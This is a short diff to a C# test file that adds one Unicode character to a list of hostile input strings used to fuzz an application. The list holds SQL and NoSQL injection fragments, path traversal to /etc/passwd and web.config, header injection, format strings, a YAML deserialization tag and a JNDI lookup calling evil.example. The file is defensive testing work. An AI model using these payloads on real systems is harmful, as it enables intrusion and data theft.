@@ -37,7 +37,7 @@ public sealed class HostileTextTests(SharedPair pair) : IClassFixture<SharedPair
         ";", "--", "/*", "*/", "0x1", "1e999", "-1", "NaN", "null", "undefined", "true", "{}", "[]", "{\"$gt\":\"\"}",
         "{\"$ne\":null}", "$where", "../../etc/passwd", "..\\..\\web.config", "/dev/null", "%00", "\u0000",
         "%0d%0aSet-Cookie:x=1", "\r\nX-Injected: 1", "%s%s%s%n", "{0}{1}", "${jndi:ldap://evil.example/a}",
-        "!!python/object", "\uD83D\uDE00", "ß", "İ", "ﬀ", "\uFFFF", "\u202E", "😀😀", "a\u0301", "sort=passwordHash",
+        "!!python/object", "\uD83D\uDE00", "ß", "İ", "ﬀ", "\uFFFF", "\uFFFE", "\u202E", "😀😀", "a\u0301", "sort=passwordHash",
         "orderBy=Email desc", "id,(select 1)", "username asc; --",
     ];
 
